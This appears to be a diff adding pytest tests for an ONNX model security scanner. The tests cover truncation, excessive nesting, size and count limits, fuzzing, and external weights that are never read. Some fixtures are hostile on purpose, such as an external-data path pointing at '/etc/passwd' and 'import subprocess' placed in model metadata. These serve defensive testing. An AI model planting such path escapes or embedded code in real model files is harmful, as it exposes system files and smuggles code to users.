+    found = observe(blob)
+    assert [o.kind for o in found] == ["fact.onnx"]
+    assert found[0].attrs["producer"] == "wscan\\xff\\xfetest 1.0"
+
+
+@pytest.mark.parametrize("cut", [4, 40, 100, -10])
+def test_truncated(tmp_path: Path, cut: int) -> None:
+    blob = mlp().SerializeToString()
+    report = scan(write(tmp_path, blob[:cut]))
+    assert rule_ids(report) == {"WS-ONNX-001"}
+    assert report.files[0].status == "failed"
+
+
+def test_nested_deeper_than_protobuf_allows(tmp_path: Path) -> None:
+    """40 levels of If bodies are 120 nested messages: protobuf refuses past 100, and so does every loader."""
+    graph = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "leaf", [], []).SerializeToString()
+    for _ in range(40):  # written by hand: protobuf will not serialise what it cannot read back
+        attribute = _field(1, b"then_branch") + b"\xa0\x01\x05" + _field(6, graph)  # name, type GRAPH, g
+        node = _field(1, b"c") + _field(2, b"y") + _field(4, b"If") + _field(5, attribute)
+        graph = _field(1, node) + _field(2, b"g")
+    blob = b"\x08\x07" + _field(7, graph) + _field(8, b"\x10\x11")
+    report = scan(write(tmp_path, blob))
+    assert rule_ids(report) == {"WS-ONNX-001"}
+    assert "depth" in report.findings[0].message.lower()
+
+
+def _field(number: int, data: bytes) -> bytes:
+    """A length-delimited protobuf field (field numbers below 16: one tag byte)."""
+    out, n = bytearray([number << 3 | 2]), len(data)
+    while True:
+        out.append((n & 0x7F) | (0x80 if n >> 7 else 0))
+        n >>= 7
+        if not n:
+            return bytes(out) + data
+
+
+def test_size_limit(tmp_path: Path) -> None:
+    report = scan(write(tmp_path, mlp()), Config(limits=Limits(max_member_bytes=100)))
+    assert rule_ids(report) == {"WS-ONNX-002"}
+    assert report.files[0].status == "failed"
+
+
+def test_count_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(onnx_checks, "MAX_ENTRIES", 5)
+    report = scan(write(tmp_path, mlp()))
+    assert rule_ids(report) == {"WS-ONNX-003"}
+    assert report.files[0].status == "failed"
+
+
+def test_observations_per_kind_are_capped() -> None:
+    model = mlp()
+    for index in range(onnx_checks.MAX_PER_KIND + 50):
+        model.graph.node.append(helper.make_node("Weird", ["y"], [f"z{index}"], domain=f"d{index}"))
+    found = [o for o in observe(model.SerializeToString()) if o.kind == "onnx.custom_domain"]
+    assert len(found) == onnx_checks.MAX_PER_KIND
+
+
+# --- every kind has a rule and a fixture --------------------------------------------------------------
+
+
+def _hostile_cases(tmp_path: Path) -> dict[str, tuple[Path, Config | None]]:
+    """One model per observation kind, for the rule-table checks."""
+    big = mlp()
+    helper.set_model_props(big, {"blob": "A" * (onnx_checks.MAX_TEXT_CHARS + 1)})
+    unknown, custom, newer, bad_order, code, shape, raw = mlp(), mlp(), mlp(), mlp(), mlp(), mlp(), mlp()
+    unknown.graph.node[2].op_type = "Relux"
+    custom.graph.node[2].domain = "evil.custom"
+    newer.opset_import[0].version = 99
+    bad_order.graph.node[1].input[0] = "undefined"
+    code.doc_string = "import subprocess"
+    del shape.graph.initializer[0].dims[:]
+    shape.graph.initializer[0].dims.extend([-1])
+    raw.graph.initializer[0].raw_data = b"1"
+    zipped = tmp_path / "z.zip"
+    with zipfile.ZipFile(zipped, "w") as zf:
+        zf.write(save_external(tmp_path / "zipped"), "model.onnx")
+    (tmp_path / "hl").mkdir()
+    hard = save_external(tmp_path / "hl")
+    os.link(tmp_path / "hl" / "weights.bin", tmp_path / "hl.bin")
+    return {
+        "onnx.malformed": (write(tmp_path / "malformed", mlp().SerializeToString()[:50]), None),
+        "onnx.size_limit": (write(tmp_path / "size", mlp()), Config(limits=Limits(max_member_bytes=10))),
+        "onnx.external_data_escape": (external_variant(tmp_path / "esc", set_entry("location", "/etc/passwd")), None),
+        "onnx.external_data_unresolvable": (zipped, None),
+        "onnx.external_data_missing": (external_variant(tmp_path / "miss", set_entry("location", "nope")), None),
+        "onnx.external_data_shared": (hard, None),
+        "onnx.external_data_out_of_bounds": (external_variant(tmp_path / "oob", set_entry("offset", "999")), None),
+        "onnx.external_data_bad_entry": (external_variant(tmp_path / "bad", _no_location), None),
+        "onnx.size_mismatch": (write(tmp_path / "raw", raw), None),
+        "onnx.bad_shape": (write(tmp_path / "shape", shape), None),
+        "onnx.custom_domain": (write(tmp_path / "custom", custom), None),
+        "onnx.unknown_op": (write(tmp_path / "unknown", unknown), None),
+        "onnx.opset_too_new": (write(tmp_path / "newer", newer), None),
+        "onnx.checker_failed": (write(tmp_path / "order", bad_order), None),
+        "onnx.code_in_metadata": (write(tmp_path / "code", code), None),
+        "onnx.oversized_metadata": (write(tmp_path / "big", big), None),
+    }
+
+
+def _onnx_rules() -> dict[str, list[dict[str, Any]]]:
+    pack = load_pack(builtin_rules_dir() / "onnx.yaml")
+    rules: dict[str, list[dict[str, Any]]] = {}
+    for rule in pack["rules"]:
+        rules.setdefault(rule["match"]["kind"], []).append(rule)
+    return rules
+
+
+def test_every_kind_has_a_rule_and_a_fixture(tmp_path: Path) -> None:
+    folder = Path(onnx_checks.__file__).parent
+    sources = [(folder / name).read_text(encoding="utf-8") for name in ("onnx_checks.py", "onnx_model.py")]
+    emitted = {kind for source in sources for kind in re.findall(r'"(onnx\.[a-z_]+)"', source)}
+    cases = _hostile_cases(tmp_path)
+    assert emitted == set(_onnx_rules()) == set(cases) | {"onnx.count_limit"}
+
+
+def test_each_fixture_trips_its_kind_and_the_message_has_every_fact(tmp_path: Path) -> None:
+    engine_for: dict[int, Engine] = {}
+    for kind, (path, config) in _hostile_cases(tmp_path).items():
+        engine = default_engine() if config is None else engine_for.setdefault(id(config), Engine(config))
+        report = engine.scan([path])
+        rules = _onnx_rules()[kind]
+        hits = [f for f in report.findings if f.rule_id in {r["id"] for r in rules}]
+        assert hits, kind
+        for finding in hits:
+            rule = next(r for r in rules if r["id"] == finding.rule_id)
+            placeholders = set(re.findall(r"\{([a-z_][a-z0-9_]*)\}", rule["message"]))
+            assert placeholders <= set(finding.evidence) | {"path", "member", "offset"}, rule["id"]
+            assert "?" not in finding.message, finding.message
+
+
+# --- external data is located, never read ------------------------------------------------------------
+
+
+def _rchar() -> int:
+    for line in Path("/proc/self/io").read_text().splitlines():
+        if line.startswith("rchar:"):
+            return int(line.split()[1])
+    raise AssertionError("no rchar")
+
+
+@pytest.mark.skipif(not Path("/proc/self/io").exists(), reason="needs /proc/self/io")
+def test_300_mb_of_external_weights_are_not_read(tmp_path: Path) -> None:
+    elements = 75_000_000  # 300 MB of F32
+    weights = numpy_helper.from_array(np.zeros(4, np.float32), "W")
+    del weights.dims[:]
+    weights.dims.append(elements)
+    _external(weights, "weights.bin")
+    graph = helper.make_graph([helper.make_node("Identity", ["W"], ["y"])], "big", [], [value("y", shape=(elements,))],
+                              [weights])  # fmt: skip
+    folder = tmp_path / "big"
+    path = write(folder, helper.make_model(graph, opset_imports=opsets()))
+    with (folder / "weights.bin").open("wb") as handle:
+        handle.truncate(4 * elements)
+    engine = default_engine()
+    engine.scan([path])  # warm: imports and lazy loads are not the scan's reads
+    before = _rchar()
+    report = engine.scan([folder])
+    spent = _rchar() - before
+    assert spent < 10 * 1024 * 1024, spent
+    assert report.findings == []  # weights.bin is claimed by the model as its external data
+    assert report.models[0].parameters == elements
+
+
+def test_checker_never_sees_external_paths(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The checker would stat locations relative to the working directory: it gets the tensors emptied."""
+    path = save_external(tmp_path / "m")
+    seen: list[ModelProto] = []
+    real = onnx.checker.check_model
+
+    def spy(model: ModelProto, full_check: bool = False) -> None:
+        seen.append(model)
+        real(model, full_check=full_check)
+
+    monkeypatch.setattr(onnx.checker, "check_model", spy)
+    monkeypatch.chdir(tmp_path)
+    assert rule_ids(scan(path)) == set()
+    assert seen and not any(t.external_data for t in seen[0].graph.initializer)
+
+
+# --- damaged models never raise, never hang ----------------------------------------------------------
+
+
+@cache
+def _samples() -> tuple[bytes, ...]:
+    return tuple(build().SerializeToString() for build in BENIGN.values())
+
+
+@pytest.fixture(scope="module")
+def fuzz_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("onnx_fuzz")
+    save_external(folder / "ext", control_flow())
+    return folder
+
+
+def _mutate(data: st.DataObject, sample: bytes) -> bytes:
+    """Bit flips, and a truncation one time in three (most cuts end in a parse error, which is checked less)."""
+    blob = bytearray(sample)
+    for _ in range(data.draw(st.integers(0, 8))):
+        position = data.draw(st.integers(0, len(blob) - 1))
+        blob[position] ^= 1 << data.draw(st.integers(0, 7))
+    cut = data.draw(st.one_of(st.just(len(blob)), st.just(len(blob)), st.integers(0, len(blob))))
+    return bytes(blob[:cut])
+
+
+@settings(max_examples=FUZZ_EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(data=st.data())
+def test_mutations_never_raise(fuzz_dir: Path, data: st.DataObject) -> None:
+    external = (fuzz_dir / "ext" / "model.onnx").read_bytes()
+    samples = (*_samples(), external)
+    index = data.draw(st.integers(0, len(samples) - 1))
+    mutated = _mutate(data, samples[index])
+    found = observe(mutated, fuzz_dir / "ext" / "model.onnx" if index == len(samples) - 1 else None)
+    assert not any(o.kind == "scan.error" for o in found)  # the scanner itself, not the engine's safety net
+
+
+@settings(max_examples=max(100, FUZZ_EXAMPLES // 3), deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(data=st.data())
+def test_engine_always_returns_scanned_or_failed(fuzz_dir: Path, data: st.DataObject) -> None:
+    samples = _samples()
+    mutated = _mutate(data, samples[data.draw(st.integers(0, len(samples) - 1))])
+    path = write(fuzz_dir / "engine", mutated, "m.onnx")
+    report = default_engine().scan([path])
+    if OnnxScanner().accepts(_head(mutated)):
+        assert report.files[0].status in {"scanned", "failed"}
+        assert not any(f.rule_id == "WS-FILE-001" for f in report.findings)  # no scan.error from a crash
+    else:  # damaged past recognition: another format, or reported as unknown, never a silent onnx pass
+        assert "onnx" not in report.files[0].formats
